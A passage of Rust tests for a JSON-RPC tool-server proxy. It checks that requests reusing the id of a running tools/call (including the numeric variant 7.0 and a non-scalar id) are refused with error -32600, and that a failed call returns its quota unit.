    let line = p.stderr_line(UNKNOWN);
    assert!(line.contains("not a tools/call result"), "{line}");
    assert_eq!(p.finish(), 0);
}

/// Finding 4: a `ping` with the id of a running `tools/call` is refused
/// (the id is live) and never forwarded, so its `{}` cannot be taken as
/// the call's result: the call fails as the server says, and its unit
/// (`flaky`: quota 1) comes back.
#[test]
fn a_request_reusing_a_running_calls_id_is_refused() {
    let mut p = Proxy::start("live-id");
    // The server answers this one only after its next message.
    p.send_call(7, "flaky", json!({"text": "later"}));
    p.send_line(r#"{"jsonrpc":"2.0","id":7,"method":"ping"}"#);
    let answer = p.recv();
    assert_eq!(answer["id"], json!(7), "{answer}");
    assert_eq!(answer["error"]["code"], json!(-32600), "{answer}");
    // `7.0` is the same id.
    p.send_line(r#"{"jsonrpc":"2.0","id":7.0,"method":"tools/list"}"#);
    let answer = p.recv();
    assert_eq!(answer["error"]["code"], json!(-32600), "{answer}");
    // Another id passes, then the held answer comes: a failure.
    p.send_line(r#"{"jsonrpc":"2.0","id":8,"method":"ping"}"#);
    let answer = p.recv();
    assert_eq!(answer, json!({"jsonrpc": "2.0", "id": 8, "result": {}}));
    let answer = p.recv();
    assert_eq!(answer["id"], json!(7), "{answer}");
    assert!(is_error(&answer), "{answer}");
    // Its unit came back: `flaky` may run again.
    let answer = p.call(9, "flaky", json!({"text": "again"}));
    assert_eq!(text(&answer), "flaky failed", "{answer}");
    assert_eq!(p.server_calls(), ["flaky", "flaky"]);
    // A request id that is neither a string nor a number is refused.
    p.send_line(r#"{"jsonrpc":"2.0","id":[1],"method":"ping"}"#);
    let answer = p.recv();
    assert_eq!(answer["error"]["code"], json!(-32600), "{answer}");
    assert_eq!(p.finish(), 0);
}
